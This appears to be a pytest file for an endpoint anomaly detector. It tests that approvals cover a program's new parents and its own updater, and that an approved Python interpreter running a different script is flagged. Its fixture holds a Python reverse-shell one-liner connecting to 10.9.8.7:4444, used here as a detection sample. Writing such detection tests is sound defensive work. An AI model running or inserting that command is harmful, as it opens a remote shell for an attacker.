"""Class 7: an approval covers the program, not one parent; its own helpers; for an interpreter, only its script."""
import pytest

from axon.models import Approval
from tests import fleet
from tests.axon import demo_stories as stories

APP = "C:\\Users\\ana\\AppData\\Local\\Figma\\"
DEPLOY = "python3 /opt/tools/deploy.py --env prod"
REVERSE_SHELL = "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.9.8.7',4444));os.dup2(s.fileno(),0)\""


def _figma(parent="explorer.exe"):
    return {"name": "Figma.exe", "exe": APP + "Figma.exe", "username": "ana", "parent": parent}


def _python(cmdline, parent="cron"):
    return {"name": "python3", "exe": "/usr/bin/python3", "username": "builder", "parent": parent, "cmdline": cmdline}


@pytest.fixture
def approved(db, admin_user):
    split = stories.history(lambda host, hour, rng: [])
    assert fleet.train().status == "succeeded"
    # The last hour: a designer installs Figma; a deployment script starts running on the build host.
    first = fleet.ingest([stories.snapshot(host, [row], seconds_ago=600 * k + 30 + i)
                          for k in range(6) for i, (host, row) in enumerate(
                              [("laptop-ana", _figma()), ("build-01", _python(DEPLOY))])])
    assert set(stories.flagged(first)) == {"Figma.exe", "python3"}
    assert split
    run = fleet.train(user=admin_user, reason="Figma and the deploy script")
    assert run.status == "succeeded", run.message
    assert set(Approval.objects.values_list("name", flat=True)) == {"figma.exe", "python3"}


@pytest.mark.clock
@pytest.mark.django_db
def test_an_approved_program_under_a_new_parent_or_its_own_updater_is_not_news(approved):
    results = fleet.ingest([
        stories.snapshot("laptop-ana", [_figma(parent="OneDrive.exe"),
                                        {"name": "Update.exe", "exe": APP + "Update.exe", "username": "ana",
                                         "parent": "Figma.exe"}]),
        stories.snapshot("build-01", [_python(DEPLOY, parent="sshd")]),
    ])
    assert stories.flagged(results) == {}


@pytest.mark.clock
@pytest.mark.django_db
def test_an_approved_interpreter_running_another_script_is_news(approved):
    results = fleet.ingest([
        stories.snapshot("build-01", [_python(REVERSE_SHELL)]),
        stories.snapshot("laptop-ana", [{"name": "Helper.exe", "exe": "C:\\Users\\ana\\AppData\\Local\\Temp\\Helper.exe",
                                         "username": "ana", "parent": "Figma.exe"}]),
    ])
    found = stories.flagged(results)
    assert set(found) == {"python3", "Helper.exe"}
    assert any(r.startswith("unusual command line for python3: ") and "socket" in r for r in found["python3"]), found
    # What was approved is the deployment script, in words a person can check.
    assert set(Approval.objects.values_list("name", "script")) == {("figma.exe", ""), ("python3", "/opt/tools/deploy.py")}
